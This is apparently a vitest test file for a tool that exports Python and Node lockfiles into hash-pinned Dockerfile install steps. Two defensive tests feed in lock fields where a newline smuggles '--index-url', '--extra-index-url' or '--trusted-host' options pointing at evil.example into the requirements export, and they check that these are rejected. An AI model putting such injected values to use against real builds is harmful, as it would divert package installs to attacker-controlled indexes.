// What the image installs from the project's own lock: found as the snapshot finds it, every
// format installed with its hashes (uv.lock, poetry.lock and Pipfile.lock exported), and an
// unhashed requirements file installing nothing, with a note. The real lockfiles are read from
// ../shared/real-locks where they are (read-only).
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { exportRequirements } from '../../../src/dockerfile/export-requirements.js';
import { parseUvLock } from '../../../src/lockfile/python-locks.js';
import { parsePylock } from '../../../src/lockfile/pylock.js';

/** The export renders what the one uv.lock reader returns. */
const exportUvLock = (text: string) => exportRequirements('uv.lock', parseUvLock(text).install());
import { planInstall } from '../../../src/dockerfile/install-lock.js';
import { findLockfiles } from '../../../src/lockfile/find.js';
import { EXPORTED_REQUIREMENTS, EXPORTED_VCS_REQUIREMENTS } from '../../../src/bundle/layout.js';
import { REPO_ROOT } from '../../helpers/cli.js';

const REAL = path.resolve(REPO_ROOT, '..', 'shared', 'real-locks');

function project(files: Record<string, string>): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'repro-install-'));
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    writeFileSync(path.join(dir, rel), text);
  }
  return dir;
}

/** Every requirement line of an exported file carries at least one --hash. */
function everyLineHashed(text: string): void {
  const reqs = text.replace(/\\\n\s+/g, ' ').split('\n').filter((l) => l !== '' && !l.startsWith('#') && !l.startsWith('--'));
  expect(reqs.length).toBeGreaterThan(0);
  for (const r of reqs) expect(r, r).toMatch(/--hash=sha256:[0-9a-f]{64}/);
}

describe('planInstall: Python', () => {
  it('installs a hashed requirements file as it is (pip-compile --generate-hashes output)', async () => {
    const plan = await planInstall(path.join(REAL, 'req-hashes-jax'), 'python', null);
    expect(plan.lock).toBe('requirements_lock_3_12.txt');
    expect(plan.run).toBe('RUN PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip install --no-cache-dir --no-deps --require-hashes -r requirements_lock_3_12.txt\n');
    expect(plan.files).toEqual([]);
    expect((await planInstall(path.join(REAL, 'req-hashes-warehouse'), 'python', null)).lock).toBe('requirements/main.txt');
  });

  it.each(['uv-lerobot', 'uv-nemo-rl', 'uv-pydantic-ai', 'poetry-1.1-poetry', 'poetry-2.1-poetry', 'poetry-2.1-lerobot', 'pipfile-pipenv', 'pipfile-presidio', 'pylock-pdm-confidence', 'pylock-pip-yente', 'pylock-uv-comfy-cli', 'pylock-uvcompile-odh-runtimes-baseline'])('%s: exported with hashes into the build context', async (name) => {
    const plan = await planInstall(path.join(REAL, name), 'python', null);
    expect(plan.files[0]!.path).toBe(EXPORTED_REQUIREMENTS);
    everyLineHashed(plan.files[0]!.text);
    expect(plan.run).toContain(`--require-hashes -r /${EXPORTED_REQUIREMENTS}`);
    expect(await planInstall(path.join(REAL, name), 'python', null)).toEqual(plan); // deterministic
    const vcs = plan.files.find((f) => f.path === EXPORTED_VCS_REQUIREMENTS);
    if (vcs) for (const line of vcs.text.split('\n').filter((l) => l && !l.startsWith('#'))) expect(line).toMatch(/ @ git\+\S+@[0-9a-f]{40}/);
  });

  it.each(['uv-lerobot', 'uv-nemo-rl', 'uv-pydantic-ai', 'poetry-1.1-poetry', 'poetry-2.1-poetry', 'poetry-2.1-lerobot', 'pipfile-pipenv', 'pipfile-presidio', 'pylock-pdm-confidence', 'pylock-pip-yente', 'pylock-uv-comfy-cli', 'pylock-uvcompile-odh-runtimes-baseline'])('%s: one reading: every package the image installs is the snapshot record\'s, with its hashes', async (name) => {
    const plan = await planInstall(path.join(REAL, name), 'python', null);
    const record = (await findLockfiles(path.join(REAL, name))).records[0]!;
    const reqs = plan.files[0]!.text.replace(/\\\n\s+/g, ' ').split('\n').filter((l) => /^[a-z0-9]/i.test(l));
    expect(reqs.length).toBeGreaterThan(0);
    for (const line of reqs) {
      const [, pkg, version] = /^([^=@ ]+)(?:==([^ ;]+))?/.exec(line)!;
      const hashes = [...line.matchAll(/--hash=(\S+)/g)].map((m) => m[1]);
      const match = record.packages.filter((p) => p.name === pkg && (version === undefined || p.version === version));
      expect(match.length, line).toBeGreaterThan(0);
      expect(match.flatMap((p) => p.hashes), line).toEqual(expect.arrayContaining(hashes));
    }
  });

  it('pylock.toml: index packages by version with every sha256 of their artifacts, the marker kept, the project directory left to /project, and what the lock was made for in the notes', async () => {
    const plan = await planInstall(path.join(REAL, 'pylock-pdm-confidence'), 'python', null);
    expect(plan.lock).toBe('pylock.toml');
    const text = plan.files[0]!.text;
    expect(text).toMatch(/^pyyaml==6\.0\.3 \\\n/m);
    // sdist + every wheel: pip picks the artifact for the image's platform and checks it.
    expect(text.split('pyyaml==6.0.3')[1]!.split('\n').filter((l) => l.includes('--hash=')).length).toBeGreaterThan(10);
    expect(plan.notes).toContain('pylock.toml was made for Python >=3.10: the base image\'s python3 must be one');
    expect(plan.notes.some((n) => n.includes('the environments python_version >= "3.10"'))).toBe(true);
    const uv = await planInstall(path.join(REAL, 'pylock-uv-comfy-cli'), 'python', null);
    expect(uv.notes.some((n) => /comfy-cli is the project's own directory \(\.\): not installed/.test(n))).toBe(true);
    const compiled = (await planInstall(path.join(REAL, 'pylock-uvcompile-odh-runtimes-baseline'), 'python', null)).files[0]!.text;
    expect(compiled).toContain("; python_full_version == '3.12.*' and implementation_name == 'cpython' and sys_platform == 'linux'");
  });

  it('pylock.toml: a blake2b-only package is refused (pip checks sha256/384/512 only); an index package without a version is refused; a lone wheel off PyPI is installed by its URL', () => {
    const parse = (body: string) => parsePylock(`lock-version = "1.0"\n${body}`);
    expect(() => exportRequirements('pylock.toml', parse(`[[packages]]\nname = "a"\nversion = "1"\nwheels = [{ url = "https://files.pythonhosted.org/a-1-py3-none-any.whl", hashes = { blake2b = "${'c'.repeat(128)}" } }]\n`).install())).toThrow(/a has no artifact hash in the lock/);
    expect(() => exportRequirements('pylock.toml', parse(`[[packages]]\nname = "b"\nindex = "https://pypi.org/simple"\nsdist = { url = "https://files.pythonhosted.org/b.tar.gz", hashes = { sha256 = "${'a'.repeat(64)}" } }\n`).install())).toThrow(/b has neither a version nor an artifact URL/);
    const out = exportRequirements('pylock.toml', parse(`[[packages]]\nname = "torch"\nversion = "2.5.1+cpu"\nwheels = [{ url = "https://download.pytorch.org/whl/cpu/torch-2.5.1%2Bcpu-cp312-cp312-linux_x86_64.whl", hashes = { sha256 = "${'d'.repeat(64)}" } }]\n`).install());
    expect(out.text).toContain(`torch @ https://download.pytorch.org/whl/cpu/torch-2.5.1%2Bcpu-cp312-cp312-linux_x86_64.whl \\\n    --hash=sha256:${'d'.repeat(64)}`);
  });

  it('attack: a pylock.toml whose index URL carries a newline cannot add lines to the export', () => {
    const lock = parsePylock(`lock-version = "1.0"\n[[packages]]\nname = "a"\nversion = "1"\nindex = "https://x.example/simple\\n--trusted-host evil.example"\nwheels = [{ url = "https://x.example/a.whl", hashes = { sha256 = "${'a'.repeat(64)}" } }]\n`);
    expect(() => exportRequirements('pylock.toml', lock.install())).toThrow(/an index URL .* cannot be written into a requirements file/);
  });

  it('bug: poetry 2\'s per-group markers were the export\'s but not the snapshot\'s: colorama, Windows-only in poetry\'s own lock, is recorded as platform-specific', async () => {
    const dir = path.join(REAL, 'poetry-2.1-poetry');
    const found = await findLockfiles(dir);
    const colorama = found.records[0]!.packages.find((p) => p.name === 'colorama')!;
    expect(colorama.platform).toBe('(os_name == "nt") or (sys_platform == "win32")');
    expect(found.warnings['poetry.lock']).toContainEqual({ code: 'PLATFORM_SPECIFIC', message: `colorama applies only where ${colorama.platform}`, package: 'colorama' });
    const exported = (await planInstall(dir, 'python', null)).files[0]!.text;
    expect(exported).toContain(`colorama==${colorama.version} ; ${colorama.platform}`);
  });

  it('uv.lock: markers are those of the paths from the project, and other forks are left out', () => {
    const lock = `version = 1
requires-python = ">=3.10"

[[package]]
name = "app"
version = "0.1.0"
source = { editable = "." }
dependencies = [
    { name = "colorama", marker = "sys_platform == 'win32'" },
    { name = "numpy", version = "1.26.4", marker = "python_full_version < '3.11'" },
    { name = "numpy", version = "2.1.0", marker = "python_full_version >= '3.11'" },
    { name = "req", extra = ["socks"] },
]

[[package]]
name = "colorama"
version = "0.4.6"
source = { registry = "https://pypi.org/simple" }
wheels = [{ url = "https://x/colorama.whl", hash = "sha256:${'a'.repeat(64)}" }]

[[package]]
name = "numpy"
version = "1.26.4"
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://x/numpy-1.tar.gz", hash = "sha256:${'b'.repeat(64)}" }

[[package]]
name = "numpy"
version = "2.1.0"
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://x/numpy-2.tar.gz", hash = "sha256:${'c'.repeat(64)}" }

[[package]]
name = "req"
version = "1.0"
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://x/req.tar.gz", hash = "sha256:${'d'.repeat(64)}" }

[package.optional-dependencies]
socks = [{ name = "pysocks" }]

[[package]]
name = "pysocks"
version = "1.7.1"
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://x/pysocks.tar.gz", hash = "sha256:${'e'.repeat(64)}" }

[[package]]
name = "unused"
version = "9"
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://x/unused.tar.gz", hash = "sha256:${'f'.repeat(64)}" }
`;
    const out = exportUvLock(lock);
    const lines = out.text.split('\n').filter((l) => /^[a-z]/.test(l));
    expect(lines).toEqual([
      "colorama==0.4.6 ; sys_platform == 'win32' \\",
      "numpy==1.26.4 ; python_full_version < '3.11' \\",
      "numpy==2.1.0 ; python_full_version >= '3.11' \\",
      'pysocks==1.7.1 \\',
      'req==1.0 \\',
    ]);
    expect(out.notes).toEqual(["app is the project's own folder (.): not installed; it runs from /project"]);
  });

  it('requirements injection: a lock whose marker or version carries a newline cannot add an --index-url to the export', () => {
    const lock = (field: string) => `version = 1

[[package]]
name = "app"
version = "0.1.0"
source = { virtual = "." }
dependencies = [{ name = "dep"${field.startsWith('marker') ? `, ${field}` : ''} }]

[[package]]
name = "dep"
version = ${field.startsWith('version') ? field.slice(8) : '"1.0"'}
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://x/dep.tar.gz", hash = "sha256:${'a'.repeat(64)}" }
`;
    expect(() => exportUvLock(lock(`marker = "python_version > '3'\\n--index-url http://evil.example/simple"`))).toThrow(expect.objectContaining({ code: 'E_CONFIG', message: expect.stringContaining('the marker of dep') }));
    expect(() => exportUvLock(lock(`version="1.0\\n--extra-index-url http://evil.example/"`))).toThrow(expect.objectContaining({ code: 'E_CONFIG', message: expect.stringContaining('cannot be written into a requirements file') }));
    expect(exportUvLock(lock('')).text).not.toContain('evil');
  });

  it('an unhashed requirements file installs nothing, and the note says what is unpinned and how to pin it', async () => {
    const plan = await planInstall(project({ 'requirements.txt': 'numpy==1.26.4\nscikit-learn>=1.2\npandas\n' }), 'python', null);
    expect(plan.run).toBe('');
    expect(plan.notes[0]).toContain('2 of 3 requirements are not pinned with == (scikit-learn, pandas)');
    expect(plan.notes[0]).toContain('pip-compile --generate-hashes');
    expect(plan.notes[0]).toContain('uv pip compile --generate-hashes');
  });

  it('prefers a hashed requirements file to uv.lock, and names a partly hashed one', async () => {
    const hashed = `a==1 --hash=sha256:${'0'.repeat(64)}\n`;
    expect((await planInstall(project({ 'requirements.txt': 'a\n', 'requirements-lock.txt': hashed, 'uv.lock': 'version = 1\n' }), 'python', null)).lock).toBe('requirements-lock.txt');
    await expect(planInstall(project({ 'requirements.txt': `${hashed}b==2\n` }), 'python', null)).rejects.toMatchObject({ code: 'E_CONFIG', message: expect.stringContaining('b has no --hash') });
  });

  it('a conda environment file is not installed by the pip image, and says so', async () => {
    const plan = await planInstall(path.join(REAL, 'conda-env-clay'), 'python', 'environment.yml');
    expect(plan.run).toBe('');
    expect(plan.notes[0]).toContain('conda file');
  });
});

describe('planInstall: Node', () => {
  it.each([
    ['npm-v3-warehouse', 'RUN npm ci --ignore-scripts --no-audit --no-fund\n'],
    ['shrinkwrap-v2-netlify-cli', 'RUN npm ci --ignore-scripts --no-audit --no-fund\n'],
    ['pnpm-v9-vue', 'RUN corepack enable && pnpm install --frozen-lockfile --ignore-scripts\n'],
    ['yarn-berry-jest', 'RUN corepack enable && yarn install --immutable --mode=skip-build\n'],
    ['yarn-v1-jest', 'RUN yarn install --frozen-lockfile --ignore-scripts --non-interactive\n'],
  ])('%s', async (name, run) => {
    expect((await planInstall(path.join(REAL, name), 'node', null)).run).toBe(run);
  });

  it('vendored (build --vendor): npm ci --offline from the bundle\'s tarballs put in a throwaway cache; pnpm and yarn are not vendored', async () => {
    const plan = await planInstall(path.join(REAL, 'npm-v3-warehouse'), 'node', null, true);
    expect(plan.run).toBe("RUN if [ -d /vendor/node ]; then find /vendor/node -name '*.tgz' -exec npm cache add --cache /tmp/repro-npm-cache {} +; fi \\\n && npm ci --offline --cache /tmp/repro-npm-cache --ignore-scripts --no-audit --no-fund \\\n && rm -rf /tmp/repro-npm-cache\n");
    expect(plan.notes.join('\n')).toContain('the image build needs no network');
    expect((await planInstall(path.join(REAL, 'pnpm-v9-vue'), 'node', null, true)).run).toBe('RUN corepack enable && pnpm install --frozen-lockfile --ignore-scripts\n');
  });

  it('no lock: nothing installed, and a note', async () => {
    const plan = await planInstall(project({ 'package.json': '{}' }), 'node', null);
    expect(plan.run).toBe('');
    expect(plan.notes[0]).toContain('npm install --package-lock-only');
  });
});
